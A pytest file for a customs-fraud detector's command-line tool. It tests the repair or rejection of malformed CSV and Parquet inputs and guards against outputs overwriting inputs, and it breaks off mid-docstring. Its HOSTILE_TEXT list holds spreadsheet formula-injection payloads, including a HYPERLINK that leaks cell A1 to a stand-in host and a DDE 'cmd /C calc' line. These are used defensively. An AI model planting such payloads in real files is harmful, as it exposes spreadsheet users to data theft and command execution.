"""The catalogue of bad inputs, driven through ``detector validate``.

Each case is a file an export from an old system could produce. It gets one of three
answers, never a traceback and never a lost row: a repair that the summary line
records, a row in the rejects file with its reason, or exit code 2 with one sentence
naming the file and what to do.
"""

import gzip
import json
import math
import os
import subprocess
import sys
import tempfile
from datetime import date, timedelta

import numpy as np
import polars as pl
import pytest
from conftest import GOOD_ROW
from typer.testing import CliRunner

from detector import DetectorError, read_declarations
from detector.app.cli import app

HEADER = ",".join(GOOD_ROW)
ROW = ",".join(GOOD_ROW.values())


def _csv(*lines: str, end: str = "\n", encoding: str = "utf-8") -> bytes:
    return end.join(lines).encode(encoding) + end.encode()


def _row(**changes: str) -> str:
    """The good row with some cells replaced (quoted when they hold a comma)."""
    cells = {**GOOD_ROW, **changes}
    return ",".join(f'"{v}"' if "," in v or "\n" in v else v for v in cells.values())


# ------------------------------------------------------------------------ file level
FILE_CASES = {
    "empty file": (b"", "is empty"),
    "header only": (_csv(HEADER), "no rows"),
    "blank lines only": (b"\n\n", "is empty"),
    "required column missing": (
        _csv(HEADER.replace("importer_id", "importer")),
        "no column 'importer_id'",
    ),
    "duplicate column names": (
        _csv(HEADER + ",customs_value", ROW + ",7"),
        "column 'customs_value' twice",
    ),
    "row with more fields than the header": (
        _csv(HEADER, ROW, ROW + ",surplus"),
        "line 3 has 9 fields, its header has 8",
    ),
    "a quote inside a cell not quoted whole": (
        _csv(HEADER, ROW, _row(importer_id='IM0"28'), ROW),
        "line 3 has a quote inside the cell 'IM0\"28' of column 'importer_id'",
    ),
    "a cell longer than Python's CSV reader allows, then a row too wide": (
        _csv(HEADER, _row(importer_id="x" * 200_000), ROW, ROW + ",surplus"),
        "line 4 has 9 fields, its header has 8",
    ),
    "a quote on the last line never closed": (
        _csv(HEADER, ROW, _row(importer_id='"IM1')),
        "has a quote on its last line (3) that is never closed",
    ),
    "a quote that runs on to a later line makes one row too wide": (
        _csv(HEADER, ROW, ROW + ',"open', ROW, 'close",' + ROW),
        "lines 3 to 5 make one row of 17 fields, its header has 8: a quote on line 3",
    ),
    "truncated parquet": (b"PAR1\x00\x00garbage", "truncated or not Parquet"),
    "gzip under a csv name": (gzip.compress(_csv(HEADER, ROW)), "is compressed with gzip"),
    "utf-16": (_csv(HEADER, ROW, encoding="utf-16"), "is not UTF-8 text"),
    "bare carriage returns": (_csv(HEADER, ROW, end="\r"), "bare carriage returns"),
    "json under a csv name": (b'{"declaration_id": 1}', "no column 'declaration_id'"),
}


@pytest.mark.parametrize("case", FILE_CASES)
def test_file_level_problem_is_exit_2_with_one_sentence(tmp_path, case):
    content, fragment = FILE_CASES[case]
    suffix = ".parquet" if "parquet" in case else ".csv"
    path = tmp_path / f"in{suffix}"
    path.write_bytes(content)
    result = CliRunner().invoke(app, ["validate", str(path), "--rejects", str(tmp_path / "r.csv")])
    assert result.exit_code == 2, result.output
    assert fragment in result.output
    assert str(path) in result.output or path.name in result.output
    assert "Traceback" not in result.output
    assert result.output.strip().count("\n") <= 2  # one sentence, wrapped at most
    assert not (tmp_path / "r.csv").exists()


def test_folder_with_one_corrupt_partition_names_it(tmp_path, synthetic_year):
    for i in range(3):
        folder = tmp_path / "parts" / f"day={i}"
        folder.mkdir(parents=True)
        synthetic_year.slice(i * 100, 100).write_parquet(folder / "part.parquet")
    bad = tmp_path / "parts" / "day=1" / "part.parquet"
    bad.write_bytes(bad.read_bytes()[:200])
    result = CliRunner().invoke(app, ["validate", str(tmp_path / "parts")])
    assert result.exit_code == 2
    assert "day=1" in result.output and "truncated or not Parquet" in result.output


def test_missing_file_and_unknown_suffix(tmp_path):
    result = CliRunner().invoke(app, ["validate", str(tmp_path / "nope.csv")])
    assert result.exit_code == 2 and "does not exist" in result.output
    (tmp_path / "x.xls").write_bytes(b"\xd0\xcf\x11\xe0")
    result = CliRunner().invoke(app, ["validate", str(tmp_path / "x.xls")])
    assert result.exit_code == 2 and "neither CSV nor Parquet" in result.output


def test_a_header_name_that_is_not_utf8_is_warned_of_not_silently_unused(tmp_path):
    path = tmp_path / "in.csv"
    path.write_bytes((HEADER + ",customs_o\xeffice\n" + ROW + ",SEA04\n").encode("latin-1"))
    result = CliRunner().invoke(app, ["validate", str(path)])
    assert result.exit_code == 0, result.output
    said = " ".join(result.output.split())
    assert "in.csv has a header name that is not UTF-8 text (column 9)" in said
    assert "save the file as UTF-8" in said


# ------------------------------------------------------- files that read after a repair
READABLE_FILES = {
    "byte order mark": ("\ufeff" + HEADER + "\n" + ROW + "\n").encode(),
    "windows line ends": _csv(HEADER, ROW, end="\r\n"),
    "semicolon separated": _csv(HEADER.replace(",", ";"), ROW.replace(",", ";")),
    "tab separated": _csv(HEADER.replace(",", "\t"), ROW.replace(",", "\t")),
    "quoted newline in an extra column": _csv(HEADER + ",note", ROW + ',"two\nlines"'),
    "cells padded with spaces": _csv(HEADER, ROW.replace(",", " , ")),
}


@pytest.mark.parametrize("case", READABLE_FILES)
def test_file_that_reads_after_a_repair(tmp_path, case):
    path = tmp_path / "in.csv"
    path.write_bytes(READABLE_FILES[case])
    out = tmp_path / "ok.csv"
    result = CliRunner().invoke(app, ["validate", str(path), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "read 1 rows = 1 accepted + 0 rejected" in result.output
    row = pl.read_csv(out, infer_schema=False).row(0, named=True)
    assert (row["declaration_id"], row["hs_code"], row["customs_value"]) == (
        "D1",
        "081060",
        "5000.0",
    )
    if "separated" in case:
        assert "as the separator" in result.output  # the repair is recorded


# -------------------------------------------------------------------------- row level
REPAIRS = [
    ("hs code with dots", {"hs_code": "0810.60"}, "hs_code", "081060", "punctuation removed"),
    ("hs code lost its zero", {"hs_code": "81060"}, "hs_code", "081060", "zero-padded"),
    ("lowercase country", {"country_origin": "th"}, "country_origin", "TH", "upper-cased"),
    (
        "thousands separators",
        {"customs_value": "1,234,567.50"},
        "customs_value",
        1234567.5,
        "thousands separators removed",
    ),
    (
        "decimal comma",
        {"customs_value": "5000,50"},
        "customs_value",
        5000.5,
        "decimal comma read as a point",
    ),
    (
        "european number",
        {"net_mass_kg": "1.234,5"},
        "net_mass_kg",
        1234.5,
        "decimal comma read as a point",
    ),
    (
        "digits grouped by underscores",
        {"customs_value": "1_000"},
        "customs_value",
        1000.0,
        "spaces, _ or ' between digits removed",
    ),
    (
        "digits grouped by spaces",
        {"net_mass_kg": "12 500"},
        "net_mass_kg",
        12500.0,
        "spaces, _ or ' between digits removed",
    ),
    (
        "unknown transport mode",
        {"transport_mode": "Barge"},
        "transport_mode",
        "other",
        "set to other",
    ),
    (
        "transit list with commas",
        {"transit_countries": "vn, my"},
        "transit_countries",
        "VN;MY",
        "transit_countries separators read as ';'",
    ),
    (
        "lowercase transit list",
        {"transit_countries": "sg;hk"},
        "transit_countries",
        "SG;HK",
        "transit_countries upper-cased",
    ),
    (
        "date with slashes",
        {"declaration_date": "2025/03/04"},
        "declaration_date",
        "2025-03-04",
        None,
    ),
    ("compact date", {"declaration_date": "20250304"}, "declaration_date", "2025-03-04", None),
    (
        "dotted day-first date",
        {"declaration_date": "04.03.2025"},
        "declaration_date",
        "2025-03-04",
        None,
    ),
    (
        "timestamp",
        {"declaration_date": "2025-03-04T13:45:00"},
        "declaration_date",
        "2025-03-04",
        None,
    ),
]


@pytest.mark.parametrize(
    ("changes", "column", "expected", "repair"),
    [pytest.param(*case[1:], id=case[0]) for case in REPAIRS],
)
def test_row_repaired_and_recorded(tmp_path, changes, column, expected, repair):
    path = tmp_path / "in.csv"
    path.write_bytes(_csv(",".join({**GOOD_ROW, **changes}), _row(**changes)))
    out = tmp_path / "ok.parquet"
    result = CliRunner().invoke(app, ["validate", str(path), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "1 accepted + 0 rejected" in result.output
    value = pl.read_parquet(out)[column][0]
    assert str(value) == str(expected)
    if repair:
        assert repair in result.output


REJECTS = [
    ("non-numeric mass", {"net_mass_kg": "heavy"}, "non-numeric net_mass_kg 'heavy'"),
    ("negative value", {"customs_value": "-10"}, "negative customs_value '-10'"),
    ("infinite value", {"customs_value": "inf"}, "is not a finite number"),
    ("absurd mass", {"net_mass_kg": "1e13"}, "net_mass_kg '1e13' is implausibly large"),
    ("absurd value", {"customs_value": "9e20"}, "implausibly large"),
    (
        "impossible date",
        {"declaration_date": "2025-02-30"},
        "impossible declaration_date '2025-02-30': no such day in the calendar",
    ),
    (
        "date from another century",
        {"declaration_date": "1025-03-04"},
        "impossible declaration_date",
    ),
    ("ambiguous slash date", {"declaration_date": "04/03/2025"}, "unparseable declaration_date"),
    ("hs code too short", {"hs_code": "12"}, "malformed hs_code '12'"),
    ("hs code with letters", {"hs_code": "08106A"}, "malformed hs_code"),
    ("three-letter country", {"country_origin": "THA"}, "malformed country_origin 'THA'"),
    ("unknown currency", {"currency": "XYZ"}, "unknown currency 'XYZ'"),
    ("malformed currency", {"currency": "dollars"}, "malformed currency"),
    ("missing importer", {"importer_id": ""}, "missing required importer_id"),
    ("malformed transit", {"transit_countries": "VN;X"}, "malformed transit_countries"),
    ("date in the future", {"declaration_date": "2100-12-31"}, "after today"),
    ("escape sequence in an id", {"importer_id": "IM\x1b[2J"}, "importer_id 'IM\\x1b[2J' holds"),
    ("bidi override in an id", {"seller_id": "SE\u202e1"}, "seller_id 'SE\\u202e1' holds control"),
    ("only a zero-width space", {"declarant_id": "\u200b"}, "holds control or invisible"),
    ("NUL in a code", {"customs_office": "SEA\x001"}, "customs_office 'SEA\\x001' holds"),
]


@pytest.mark.parametrize(
    ("changes", "reason"), [pytest.param(*case[1:], id=case[0]) for case in REJECTS]
)
def test_row_rejected_with_its_reason(tmp_path, changes, reason):
    path = tmp_path / "in.csv"
    other = {**GOOD_ROW, "declaration_id": "D2"}
    header = {**GOOD_ROW, **changes}
    lines = [",".join(header), _row(**changes), _row(**{**changes, **_clean(changes), **other})]
    path.write_bytes(_csv(*lines))
    rejects = tmp_path / "rejects.csv"
    result = CliRunner().invoke(app, ["validate", str(path), "--rejects", str(rejects)])
    assert result.exit_code == 0, result.output
    assert "read 2 rows = 1 accepted + 1 rejected" in result.output
    rejected = pl.read_csv(rejects, infer_schema=False)
    assert rejected["input_row"].to_list() == ["1"]
    assert reason in rejected["reject_reason"][0]
    for column, value in changes.items():  # the original cell travels with the reason
        assert (rejected[column][0] or "") == value


def _clean(changes: dict[str, str]) -> dict[str, str]:
    """The same columns with acceptable values, for the row that must pass."""
    fine = {"currency": "USD", "transit_countries": "VN"}
    return {c: GOOD_ROW.get(c, fine.get(c, "")) for c in changes}


def test_duplicated_ids_keep_the_first(tmp_path):
    path = tmp_path / "in.csv"
    path.write_bytes(_csv(HEADER, ROW, _row(customs_value="1")))
    rejects = tmp_path / "rejects.csv"
    result = CliRunner().invoke(app, ["validate", str(path), "--rejects", str(rejects)])
    assert "read 2 rows = 1 accepted + 1 rejected" in result.output
    rejected = pl.read_csv(rejects, infer_schema=False)
    assert rejected["input_row"].to_list() == ["2"]
    assert "duplicate declaration_id 'D1'" in rejected["reject_reason"][0]


def test_wrong_encoding_is_rejected_not_garbled(tmp_path):
    path = tmp_path / "in.csv"
    path.write_bytes(_csv(HEADER, _row(importer_id="MÜLLER GMBH"), encoding="latin-1"))
    rejects = tmp_path / "rejects.csv"
    result = CliRunner().invoke(app, ["validate", str(path), "--rejects", str(rejects)])
    assert "read 1 rows = 0 accepted + 1 rejected" in result.output
    reason = pl.read_csv(rejects, infer_schema=False)["reject_reason"][0]
    assert "importer_id" in reason and "not valid UTF-8" in reason


def test_blank_line_is_one_reject_with_one_reason(tmp_path):
    path = tmp_path / "in.csv"
    path.write_bytes(_csv(HEADER, ROW, "", _row(declaration_id="D2")))
    rejects = tmp_path / "rejects.csv"
    result = CliRunner().invoke(app, ["validate", str(path), "--rejects", str(rejects)])
    assert "read 3 rows = 2 accepted + 1 rejected" in result.output
    assert pl.read_csv(rejects, infer_schema=False)["reject_reason"].to_list() == [
        "empty line: no values"
    ]


def test_row_with_fewer_fields_names_what_is_missing(tmp_path):
    path = tmp_path / "in.csv"
    path.write_bytes(_csv(HEADER, ",".join(list(GOOD_ROW.values())[:6])))
    rejects = tmp_path / "rejects.csv"
    CliRunner().invoke(app, ["validate", str(path), "--rejects", str(rejects)])
    reason = pl.read_csv(rejects, infer_schema=False)["reject_reason"][0]
    assert reason == "missing required net_mass_kg; missing required customs_value"


# ------------------------------------------------------- outputs never destroy inputs
def _snapshot(folder) -> dict[str, bytes]:
    return {
        str(p.relative_to(folder)): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def _careless_setup(tmp_path):
    """An input, a model file, a store, a folder of the user's, a folder of inputs."""
    rows = [{**GOOD_ROW, "declaration_id": f"D{i}"} for i in range(1_000)]
    pl.DataFrame(rows).write_csv(tmp_path / "in.csv")
    (tmp_path / "model.joblib").write_bytes(b"a model of the user's")
    (tmp_path / "store").mkdir()
    (tmp_path / "store" / "outcomes.parquet").write_bytes(b"outcomes")
    (tmp_path / "archive").mkdir()
    for month in ("jan", "feb"):
        pl.DataFrame(rows[:5]).write_parquet(tmp_path / "archive" / f"{month}.parquet")
    (tmp_path / "indir").mkdir()
    pl.DataFrame(rows[:5]).write_parquet(tmp_path / "indir" / "part.parquet")
    (tmp_path / "link.csv").symlink_to(tmp_path / "in.csv")
    pl.DataFrame({"declaration_id": ["D1"], "fraud": [1]}).write_csv(tmp_path / "o.csv")


SCORE = ["score", "in.csv", "--model", "model.joblib"]
CARELESS = {
    "list over its input": (SCORE + ["--out", "in.csv", "--top", "20"], "overwrite the input"),
    "report over the input": (SCORE + ["--out", "f.csv", "--report", "in.csv"], "the input"),
    "report over the model": (SCORE + ["--out", "f.csv", "--report", "model.joblib"], "model"),
    "list over the model": (SCORE + ["--out", "model.joblib"], "overwrite the model"),
    "rejects over the list": (SCORE + ["--out", "x.csv", "--rejects", "x.csv"], "--out output"),
    "list through a link to the input": (SCORE + ["--out", "link.csv"], "the input"),
    "list into the store": (SCORE + ["--out", "store/x.csv", "--store", "store"], "label store"),
    "list folder over a folder of the user's": (SCORE + ["--out", "archive"], "did not write"),
    "list folder over its input folder": (
        ["score", "indir", "--model", "model.joblib", "--out", "indir"],
        "overwrite the input",
    ),
    "list inside its input folder": (
        ["score", "indir", "--model", "model.joblib", "--out", "indir/x.parquet"],
        "overwrite the input",
    ),
    "validate rejects over its input": (["validate", "in.csv", "--rejects", "in.csv"], "input"),
    "validate list over its input glob": (["validate", "*.csv", "--out", "in.csv"], "input"),
    # A new file the input glob would read the next night, as yesterday's list.
    "list a new file its input glob matches": (
        ["score", "archive/*.parquet", "--model", "model.joblib", "--out", "archive/new.parquet"],
        "the next run would read it as input",
    ),
    "list a new file a ** glob matches with no folder between": (
        ["score", "archive/**/*.parquet", "--model", "model.joblib", "--out", "archive/n.parquet"],
        "the next run would read it as input",
    ),
    "feedback rejects over the outcomes": (
        ["feedback", "o.csv", "--store", "store", "--rejects", "o.csv"],
        "outcomes file",
    ),
    "model over the training file": (["train", "in.csv", "--model", "in.csv"], "overwrite"),
    "monitor report into the store": (
        ["monitor", "--store", "store", "--report", "store/r.html"],
        "label store",
    ),
    "list to a device": (SCORE + ["--out", "/dev/null"], "not a regular file"),
    "list to a pattern": (SCORE + ["--out", "*.parquet"], "is a pattern"),
    "store inside the input folder": (
        ["score", "indir", "--model", "model.joblib", "--out", "f.csv", "--store", "indir"],
        "mix the label store with the input",
    ),
    "feedback reading the store itself": (["feedback", "store", "--store", "store"], "mix"),
    "a damaged store, before any work": (SCORE + ["--out", "f.csv", "--store", "store"], "damaged"),
    "list over the schema profile": (
        ["validate", "in.csv", "--schema", "o.csv", "--out", "o.csv"],
        "the schema profile",
    ),
    "demo over a folder of the user's": (["demo", "--out", "store"], "earlier demo did not"),
    "report to a folder": (SCORE + ["--out", "f.csv", "--report", "store"], "is a folder"),
    "report in a missing folder": (SCORE + ["--out", "f.csv", "--report", "no/r.html"], "exist"),
}


@pytest.mark.parametrize("case", CARELESS)
def test_no_output_may_replace_an_input_the_model_the_store_or_another_output(
    tmp_path, monkeypatch, case
):
    _careless_setup(tmp_path)
    monkeypatch.chdir(tmp_path)
    before = _snapshot(tmp_path)
    args, fragment = CARELESS[case]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 2, result.output
    assert fragment in result.output
    assert len(result.output.strip().splitlines()) == 1
    assert _snapshot(tmp_path) == before  # nothing written, nothing lost


@pytest.mark.parametrize("name", ["listed.xlsx", "listed.csv"])
def test_a_folder_named_like_a_file_is_refused_before_any_work(tmp_path, monkeypatch, name):
    _careless_setup(tmp_path)
    monkeypatch.chdir(tmp_path)
    (tmp_path / name).mkdir()
    before = _snapshot(tmp_path)
    result = CliRunner().invoke(app, SCORE + ["--out", name])
    assert result.exit_code == 2, result.output
    assert f"--out {name} is a folder; name a file in it" in result.output
    assert _snapshot(tmp_path) == before


def test_a_folder_with_a_dot_in_its_name_is_still_a_folder_of_parquet_files(tmp_path):
    from detector.io.output import check_output

    for name in ("run.2024", "scores.v2", "year.parquet"):
        (tmp_path / name).mkdir()
        check_output(tmp_path / name)  # no error: written as partitions


def test_a_folder_output_replaces_only_a_folder_it_wrote(tmp_path):
    from detector.io.output import write_table

    df = pl.DataFrame(
        {"declaration_date": [date(2025, 1, 1)], "a": [1], "risk_score": [0.5]}
    ).with_columns(reason_codes=pl.lit("X"))
    write_table(df, tmp_path / "out")
    write_table(df.with_columns(a=pl.lit(2)), tmp_path / "out")  # its own list: replaced
    assert pl.read_parquet(tmp_path / "out", hive_partitioning=True)["a"].to_list() == [2]
    df.write_parquet(tmp_path / "out" / "mine.parquet")  # one file of the user's in it
    with pytest.raises(DetectorError, match="did not write \\(mine.parquet\\)"):
        write_table(df, tmp_path / "out")
    # Declarations it wrote as a folder (a generated year) are kept, as in a file.
    rows = df.drop("risk_score", "reason_codes")
    write_table(rows, tmp_path / "year")
    with pytest.raises(DetectorError, match="year holds declarations"):
        write_table(df, tmp_path / "year")


def test_xlsx_without_xlsxwriter_is_refused_before_any_work_naming_the_users_file(
    tmp_path, monkeypatch
):
    _careless_setup(tmp_path)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    result = CliRunner().invoke(app, SCORE + ["--out", "flagged.xlsx"])
    assert result.exit_code == 2
    assert "Writing flagged.xlsx needs the xlsxwriter package" in result.output
    assert ".tmp" not in result.output


def test_a_model_that_is_a_folder_is_exit_2(tmp_path, monkeypatch):
    _careless_setup(tmp_path)
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(app, ["score", "in.csv", "--model", "store", "--out", "f.csv"])
    assert result.exit_code == 2
    assert "Model store is a folder" in result.output


# --------------------------------------------------------------- hostile file content
def _stray_quote_file(path, closed: bool = True):
    rows = [
        {**GOOD_ROW, "declaration_id": f"D{i}", "customs_office": "SEA"} for i in range(1, 1001)
    ]
    lines = [",".join(rows[0])] + [",".join(r.values()) for r in rows]
    lines[101] = lines[101].replace(",SEA", ',"SEA01')
    if closed:
        lines[106] = lines[106].replace(",SEA", ',SEA02"')
    path.write_text("\n".join(lines) + "\n")


def test_a_stray_quote_loses_no_row_silently(tmp_path):
    path, rejects = tmp_path / "in.csv", tmp_path / "r.csv"
    _stray_quote_file(path)
    result = CliRunner().invoke(app, ["validate", str(path), "--rejects", str(rejects)])
    assert result.exit_code == 0
    assert "read 995 rows = 994 accepted + 1 rejected" in result.output
    assert "has 1,000 lines after its header but 995 rows were read" in result.output
    rejected = pl.read_csv(rejects, infer_schema=False)
    assert rejected["declaration_id"].to_list() == ["D101"]  # the id of line 101...
    assert "customs_office 'SEA01" in rejected["reject_reason"][0]
    assert "spans lines" in rejected["reject_reason"][0]  # ...not scored with line 106's numbers


def test_a_quote_never_closed_names_its_line(tmp_path):
    path = tmp_path / "in.csv"
    _stray_quote_file(path, closed=False)
    result = CliRunner().invoke(app, ["validate", str(path)])
    assert result.exit_code == 2
    assert "has a quote on line 102 that is not closed" in result.output


def test_ids_repeated_in_blocks_are_rejected_without_a_panic(tmp_path, synthetic_year):
    """Polars' pl.format panicked on this layout (a text column in several chunks)."""
    block = synthetic_year.head(300)
    path = tmp_path / "in.csv"
    pl.concat([block, block, block]).write_csv(path)
    result = CliRunner().invoke(app, ["validate", str(path)])
    assert result.exit_code == 0, result.output
    assert "read 900 rows = 300 accepted + 600 rejected" in result.output


def test_an_unexpected_failure_is_one_sentence_and_a_log_file(tmp_path, monkeypatch):
    import detector.io.ingest

    def panic(*args, **kwargs):
        raise pl.exceptions.PanicException("assertion failed: i < self.len()\nplan: " + "x" * 9999)

    monkeypatch.setattr(detector.io.ingest, "read_declarations", panic)
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    monkeypatch.setattr(tempfile, "tempdir", None)
    path = tmp_path / "in.csv"
    path.write_bytes(_csv(HEADER, ROW))
    result = CliRunner().invoke(app, ["validate", str(path)])
    assert result.exit_code == 1
    assert len(result.output.strip().splitlines()) == 1
    assert "PanicException: assertion failed: i < self.len()" in result.output
    log = next(tmp_path.glob("detector-failure-*.txt"))
    assert str(log) in result.output and "x" * 9999 in log.read_text()


def _closed_pipe(args: list[str]) -> tuple[int, bytes]:
    """Run ``detector ARGS`` with its output's reader gone before it prints (``| head -0``)."""
    proc = subprocess.Popen(
        [sys.executable, "-m", "detector", *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    proc.stdout.close()
    _, stderr = proc.communicate(timeout=300)
    return proc.returncode, stderr


def test_a_reader_that_goes_away_stops_the_output_quietly(tmp_path):
    path = tmp_path / "in.csv"
    path.write_bytes(_csv(HEADER, ROW))
    code, stderr = _closed_pipe(["validate", str(path)])
    assert (code, stderr) == (1, b"")


def test_a_reader_that_goes_away_from_json_stops_it_quietly(model_file):
    model, _, recent = model_file
    first = pl.read_parquet(recent)["declaration_id"][0]
    code, stderr = _closed_pipe(
        ["explain", first, "--input", str(recent), "--model", str(model), "--json"]
    )
    assert (code, stderr) == (1, b"")


NESTED = {
    "customs_value as a list": ("customs_value", [[5000.0]], "customs_value' is of type List"),
    "importer_id as a list": ("importer_id", [["IM1"]], "importer_id' is of type List"),
    "date as a duration": ("declaration_date", [timedelta(days=3)], "declaration_date' is of"),
    # A yes/no would be read as a mass of 1 kg, a value of 1 or a rate of 1 %.
    "mass as yes/no": ("net_mass_kg", [True], "net_mass_kg' is of type Boolean"),
    "value as yes/no": ("customs_value", [False], "customs_value' is of type Boolean"),
    "duty as yes/no": ("duty_rate_pct", [True], "duty_rate_pct' is of type Boolean"),
}


@pytest.mark.parametrize("case", NESTED)
def test_a_parquet_column_of_a_nested_type_is_exit_2_naming_it(tmp_path, case):
    column, value, fragment = NESTED[case]
    frame = pl.DataFrame([GOOD_ROW]).with_columns(pl.Series(column, value))
    frame.write_parquet(tmp_path / "in.parquet")
    result = CliRunner().invoke(app, ["validate", str(tmp_path / "in.parquet")])
    assert result.exit_code == 2, result.output
    assert fragment in result.output and "in.parquet" in result.output


def test_a_parquet_fraud_label_of_yes_and_no_is_read(tmp_path):
    frame = pl.DataFrame([GOOD_ROW, GOOD_ROW | {"declaration_id": "D2"}]).with_columns(
        pl.Series("inspected", [True, True]), pl.Series("fraud", [True, False])
    )
    frame.write_parquet(tmp_path / "in.parquet")
    batch = read_declarations(tmp_path / "in.parquet")
    assert batch.accepted["fraud"].to_list() == [1, 0]


def test_an_extra_column_of_lists_is_carried_as_text(tmp_path):
    frame = pl.DataFrame([GOOD_ROW]).with_columns(pl.Series("tags", [["a", "b"]]))
    frame.write_parquet(tmp_path / "in.parquet")
    out = tmp_path / "ok.csv"
    result = CliRunner().invoke(app, ["validate", str(tmp_path / "in.parquet"), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert pl.read_csv(out)["tags"].to_list() == ['["a","b"]']


def test_an_extra_column_of_records_is_carried_as_text_to_the_list_and_the_rejects(tmp_path):
    bad = GOOD_ROW | {"declaration_id": "D2", "net_mass_kg": "-5"}
    frame = pl.DataFrame([GOOD_ROW, bad]).with_columns(
        pl.struct(pl.col("importer_id"), pl.lit("SE1").alias("seller")).alias("parties")
    )
    frame.write_parquet(tmp_path / "in.parquet")
    out, rejects = tmp_path / "ok.csv", tmp_path / "rej.csv"
    args = ["validate", str(tmp_path / "in.parquet"), "--out", str(out), "--rejects", str(rejects)]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    said = f'{{"importer_id":"{GOOD_ROW["importer_id"]}","seller":"SE1"}}'
    assert pl.read_csv(out)["parties"].to_list() == [said]
    assert pl.read_csv(rejects)["parties"].to_list() == [said]


def test_a_rejects_file_read_back_gets_its_row_numbers_and_reasons_anew(tmp_path):
    bad = GOOD_ROW | {"declaration_id": "D2", "net_mass_kg": "-5"}
    pl.DataFrame([GOOD_ROW, bad]).write_csv(tmp_path / "in.csv")
    rejects, again = tmp_path / "rej.csv", tmp_path / "again.csv"
    first = CliRunner().invoke(
        app, ["validate", str(tmp_path / "in.csv"), "--rejects", str(rejects)]
    )
    assert first.exit_code == 0, first.output
    second = CliRunner().invoke(app, ["validate", str(rejects), "--rejects", str(again)])
    assert second.exit_code == 0, second.output
    assert "the input is a rejects file" in second.output
    back = pl.read_csv(again)
    assert back["input_row"].to_list() == [1]  # its row in this file, not the first one's
    assert back["reject_reason"].str.contains("negative net_mass_kg").all()


def test_a_megabyte_cell_polars_cannot_read_is_not_echoed_whole(tmp_path):
    pl.DataFrame([GOOD_ROW | {"declarant_id": "CELL"}]).write_csv(tmp_path / "in.csv")
    text = (tmp_path / "in.csv").read_text()
    (tmp_path / "in.csv").write_text(text.replace("CELL", '"' + "A" * 1_000_000 + '"52'))
    result = CliRunner().invoke(app, ["validate", str(tmp_path / "in.csv")])
    assert result.exit_code == 2, result.output[:500]
    assert len(result.output) < 1_000
    assert "(1,000,000 characters)" in result.output and "in.csv" in result.output


def test_a_glob_through_links_up_the_tree_reads_each_file_once(tmp_path):
    data = tmp_path / "data"
    (data / "day").mkdir(parents=True)
    pl.DataFrame([GOOD_ROW]).write_parquet(data / "day" / "a.parquet")
    (data / "up").symlink_to(tmp_path)  # a link back up the tree
    (data / "day" / "loop").symlink_to(data)  # and a loop
    result = CliRunner().invoke(app, ["validate", f"{data}/**/*.parquet"])
    assert result.exit_code == 0, result.output
    assert "read 1 rows = 1 accepted + 0 rejected" in result.output


def test_a_header_of_a_hundred_thousand_columns_is_refused(tmp_path):
    path = tmp_path / "wide.csv"
    path.write_text(HEADER + "," + ",".join(f"c{i}" for i in range(100_000)) + "\n" + ROW + "\n")
    result = CliRunner().invoke(app, ["validate", str(path)])
    assert result.exit_code == 2
    assert "has 100,008 columns; a declarations table has at most 2,000" in result.output


def test_text_too_long_for_a_worksheet_cell_is_cut_with_a_note(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    from detector.io.output import write_table

    write_table(pl.DataFrame({"note": ["x" * 40_000, "short"]}), tmp_path / "t.xlsx")
    cells = [c.value for c in openpyxl.load_workbook(tmp_path / "t.xlsx").active["A"]][1:]
    assert len(cells[0]) <= 32_767 and cells[0].startswith("x" * 30_000)
    assert "[cut: 40000 characters in all" in cells[0]
    assert cells[1] == "short"


def test_a_rename_is_made_durable_by_syncing_the_folder(tmp_path, monkeypatch):
    import stat

    from detector.io.output import write_table

    synced = []
    real = os.fsync

    def spy(fd):
        synced.append(stat.S_ISDIR(os.fstat(fd).st_mode))
        real(fd)

    monkeypatch.setattr(os, "fsync", spy)
    write_table(pl.DataFrame({"a": [1]}), tmp_path / "t.csv")
    assert synced == [False, True]  # the file, then its folder after the rename


# ------------------------------------------------- hostile rows through a real model
HOSTILE_TEXT = [
    '=HYPERLINK("http://x/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1)",
    "@SUM(1)",
    "-2+3",
]


@pytest.fixture(scope="module")
def hostile(trained_model, tmp_path_factory):
    """Clean recent rows, with formulas in text fields and copies declared at value 0."""
    model, _, recent = trained_model
    clean = pl.read_parquet(recent).filter(pl.col("true_fraud") == 0).head(3_000)
    formulas = clean.head(len(HOSTILE_TEXT)).with_columns(
        pl.Series("declaration_id", [f"F{i}" for i in range(len(HOSTILE_TEXT))]),
        pl.Series("importer_id", HOSTILE_TEXT),
        pl.Series("seller_id", HOSTILE_TEXT),
        pl.Series("customs_office", HOSTILE_TEXT),
    )
    free = clean.slice(1_000, 40).with_columns(pl.format("Z{}", pl.col("declaration_id")))
    zero = free.with_columns(customs_value=pl.lit(0.0))
    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "in.parquet"
    pl.concat([clean, formulas, zero]).write_parquet(path)
    return model, path, folder


@pytest.mark.slow
def test_a_declared_value_of_zero_is_judged_as_the_extreme_of_undervaluation(hostile):
    model, path, folder = hostile
    out = folder / "zero.parquet"
    result = CliRunner().invoke(app, ["score", str(path), "--model", str(model), "--out", str(out)])
    assert result.exit_code == 0, result.output
    scored = pl.read_parquet(out)
    zero = scored.filter(pl.col("declaration_id").str.starts_with("Z"))
    assert zero.height == 40
    assert (zero["value_ratio"] == 0).all()  # declared nothing: 0 % of the peer price
    assert zero["reasons"].list.first().str.starts_with("UNDERVALUED: declared at value 0").all()
    assert zero["reason_codes"].list.contains("UNDERVALUED").all()
    taxed = zero.filter(pl.col("duty_rate_pct") > 0)
    assert taxed.height and (taxed["revenue_at_stake"] > 0).all()
    # Among the most suspicious 5 % of the batch, every one.
    assert (zero["rank"] <= 0.05 * scored.height).all(), zero["rank"].to_list()


@pytest.mark.slow
def test_nothing_declared_is_judged_as_the_limit_of_declaring_ever_less(trained_model, tmp_path):
    """Goods declared at value 0 score as the same goods declared at a vanishing value
